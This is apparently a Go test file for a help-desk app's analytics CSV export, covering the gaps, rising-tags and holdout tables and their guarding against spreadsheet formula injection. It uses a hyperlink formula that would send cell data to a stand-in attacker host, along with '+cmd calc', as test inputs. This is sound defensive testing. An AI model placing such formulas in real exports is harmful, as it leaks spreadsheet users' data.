package web_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"stackdesk/internal/deflection"
	"stackdesk/internal/store"
	"stackdesk/internal/testkit"
)

// readCSV parses a download with encoding/csv (every row as wide as the
// header) after checking it is one.
func readCSV(t *testing.T, res *testkit.Response) [][]string {
	t.Helper()
	if res.Status != http.StatusOK || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("download: %d %q\n%s", res.Status, res.Header.Get("Content-Type"), res.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, res.Body)
	}
	return rows
}

// TestAnalyticsCSVTables: besides the figures per interval, the download
// offers the content gaps, the rising tags and the holdout estimate
// (?part=gaps|rising|holdout), each with the page's range and tag filter,
// linked from their sections; a search or tag that a spreadsheet would run
// as a formula gets a leading apostrophe, and a table that is none is 400.
func TestAnalyticsCSVTables(t *testing.T) {
	each(t, func(t *testing.T, env *testkit.Env) {
		db := env.App.Store.DB
		at := func(s string) time.Time {
			v, err := time.Parse("2006-01-02 15:04", s)
			if err != nil {
				t.Fatal(err)
			}
			return v.UTC()
		}
		_, carol := env.SignUp(t, "carol")
		ask := func(when, title string, tags ...string) {
			t.Helper()
			id := env.Ask(t, carol, title, tags...)
			if err := db.Model(&store.Post{}).Where("id = ?", id).Update("created_at", at(when)).Error; err != nil {
				t.Fatal(err)
			}
		}
		// The week from 2026-03-08: VPN three times, printers three times
		// (one of them also tagged +cmd, a tag a spreadsheet would run).
		for _, d := range []string{"09", "10", "11"} {
			ask("2026-03-"+d+" 09:00", "VPN drops every ten minutes, day "+d, "vpn")
			ask("2026-03-"+d+" 10:00", "Printer prints blank pages, day "+d, "printer")
		}
		ask("2026-03-12 10:00", "Printer script needs a command line", "printer", "+cmd")

		session := func(start, outcome string, holdout bool, tag, search string, results int) {
			t.Helper()
			s := deflection.Session{Visitor: "v" + start, Source: deflection.SourceHelp, Query: search, Searches: 1,
				Holdout: holdout, CreatedAt: at(start), LastEventAt: time.Now().UTC(), Outcome: &outcome, OutcomeAt: ptrTime(at(start))}
			if err := db.Create(&s).Error; err != nil {
				t.Fatal(err)
			}
			if tag != "" {
				if err := db.Create(&deflection.SessionTag{SessionID: s.ID, Tag: tag}).Error; err != nil {
					t.Fatal(err)
				}
			}
			e := deflection.Event{SessionID: s.ID, Type: deflection.EventSearch, Query: search, Norm: search, Results: &results, CreatedAt: at(start)}
			if err := db.Create(&e).Error; err != nil {
				t.Fatal(err)
			}
		}
		const formula = `=hyperlink("http://evil.example/?"&a1)`
		session("2026-03-03 08:00", deflection.OutcomeTicket, true, "vpn", formula, 0)
		session("2026-03-04 08:00", deflection.OutcomeTicket, false, "vpn", "+cmd calc", 3)
		session("2026-03-05 08:00", deflection.OutcomeSolved, false, "", "-2 printers", 0)
		session("2026-03-06 08:00", deflection.OutcomeSolved, false, "vpn", "vpn drops", 2)

		ann := analyst(t, env)
		const rng = "from=2026-03-02&to=2026-03-14&interval=week"
		get := func(query string) *testkit.Response { return ann.get(t, "/analytics.csv?"+rng+query) }
		byFirst := func(rows [][]string) map[string]string {
			m := map[string]string{}
			for _, r := range rows[1:] {
				m[r[0]] = strings.Join(r[1:], "|")
			}
			return m
		}
		same := func(what string, got, want map[string]string) {
			t.Helper()
			if len(got) != len(want) {
				t.Errorf("%s: %d rows %q, want %q", what, len(got), got, want)
			}
			for k, v := range want {
				if got[k] != v {
					t.Errorf("%s %q: %q, want %q", what, k, got[k], v)
				}
			}
		}

		// Content gaps: every search of a session ending in a ticket or
		// finding nothing, guarded where a spreadsheet would run it.
		gapsHeader := "query,sessions,tickets,no_results,first_day,last_day,tag"
		rows := readCSV(t, get("&part=gaps"))
		if strings.Join(rows[0], ",") != gapsHeader {
			t.Fatalf("gaps header %q", rows[0])
		}
		same("gaps", byFirst(rows), map[string]string{"'" + formula: "1|1|1|2026-03-02|2026-03-14|",
			"'+cmd calc": "1|1|0|2026-03-02|2026-03-14|", "'-2 printers": "1|0|1|2026-03-02|2026-03-14|"})
		res := get("&part=gaps&tag=vpn")
		if want := "attachment; filename=deflection-gaps-vpn-2026-03-02-2026-03-14.csv"; res.Header.Get("Content-Disposition") != want {
			t.Errorf("named %q, want %q", res.Header.Get("Content-Disposition"), want)
		}
		same("gaps of vpn", byFirst(readCSV(t, res)), map[string]string{"'" + formula: "1|1|1|2026-03-02|2026-03-14|vpn",
			"'+cmd calc": "1|1|0|2026-03-02|2026-03-14|vpn"})

		// Rising tags in the range's last week, within the tag filter.
		rows = readCSV(t, get("&part=rising"))
		if strings.Join(rows[0], ",") != "rising_tag,this_week,four_week_average,week_first_day,week_last_day,tag" {
			t.Fatalf("rising header %q", rows[0])
		}
		same("rising", byFirst(rows), map[string]string{"printer": "4|0|2026-03-08|2026-03-14|", "vpn": "3|0|2026-03-08|2026-03-14|"})
		same("rising of vpn", byFirst(readCSV(t, get("&part=rising&tag=vpn"))), map[string]string{"vpn": "3|0|2026-03-08|2026-03-14|vpn"})
		same("rising of printer", byFirst(readCSV(t, get("&part=rising&tag=printer"))), map[string]string{"printer": "4|0|2026-03-08|2026-03-14|printer"})

		// The holdout estimate, one row: too few sessions for a difference.
		rows = readCSV(t, get("&part=holdout&tag=vpn"))
		if len(rows) != 2 || strings.Join(rows[0], ",") != "share,holdout_sessions,holdout_tickets,holdout_ticket_rate,suggested_sessions,"+
			"suggested_tickets,suggested_ticket_rate,difference,ci_low,ci_high,too_few,first_day,last_day,tag" {
			t.Fatalf("holdout %q", rows)
		}
		if got := strings.Join(rows[1][1:], "|"); got != "1|1|1|2|1|0.5||||true|2026-03-02|2026-03-14|vpn" {
			t.Errorf("holdout of vpn %q", got)
		}
		if got := strings.Join(readCSV(t, get("&part=holdout"))[1][1:], "|"); got != "1|1|1|3|1|0.3333||||true|2026-03-02|2026-03-14|" {
			t.Errorf("holdout %q", got)
		}

		// The figures per interval stay the default, part named or not, and
		// their tag column is guarded as well.
		plain := get("&tag=printer")
		if named := get("&tag=printer&part=intervals"); !bytes.Equal(plain.Body, named.Body) || plain.Header.Get("Content-Disposition") != named.Header.Get("Content-Disposition") {
			t.Errorf("part=intervals differs from the default:\n%s\n%s", plain.Body, named.Body)
		}
		if rows = readCSV(t, plain); rows[0][0] != "period" || len(rows) != 4 { // the header, two weeks, the total
			t.Errorf("intervals %q", rows)
		}
		rows = readCSV(t, get("&tag=%2Bcmd"))
		if last := rows[len(rows)-1]; last[0] != "total" || last[len(last)-1] != "'+cmd" {
			t.Errorf("total of +cmd %q", last)
		}

		// The page links each table with its filters.
		page := ann.get(t, "/analytics?"+rng+"&tag=vpn")
		contains(t, page, `href="/analytics.csv?from=2026-03-02&amp;interval=week&amp;part=gaps&amp;tag=vpn&amp;to=2026-03-14" id="csv-gaps" download>Content gaps as CSV</a>`,
			`href="/analytics.csv?from=2026-03-02&amp;interval=week&amp;part=rising&amp;tag=vpn&amp;to=2026-03-14" id="csv-rising" download>Rising tags as CSV</a>`,
			`href="/analytics.csv?from=2026-03-02&amp;interval=week&amp;part=holdout&amp;tag=vpn&amp;to=2026-03-14" id="csv-holdout" download>`,
			`<span id="rising-within">Only questions tagged [vpn]: the tag itself and the tags asked about together with it.</span>`)
		contains(t, ann.get(t, "/analytics?"+rng, "Accept-Language", "de"), `id="csv-gaps" download>Inhaltslücken als CSV</a>`)

		// A table that is none is said as the other bad fields are.
		for query, want := range map[string]string{
			"part=pie":               csvRefused + "part: The table is intervals, gaps, rising or holdout.\n",
			"part=pie&interval=hour": csvRefused + "interval: The interval is day (daily), week (weekly) or month (monthly).\npart: The table is intervals, gaps, rising or holdout.\n",
		} {
			res := ann.get(t, "/analytics.csv?"+query)
			if res.Status != http.StatusUnprocessableEntity || string(res.Body) != want {
				t.Errorf("%s: %d %q, want 422 %q", query, res.Status, res.Body, want)
			}
		}
	})
}

// csvRefused is the first line of a refused CSV download.
const csvRefused = "No CSV file was made: correct these parameters of its address, or download the file from the dashboard, /analytics.\n"

func ptrTime(t time.Time) *time.Time { return &t }
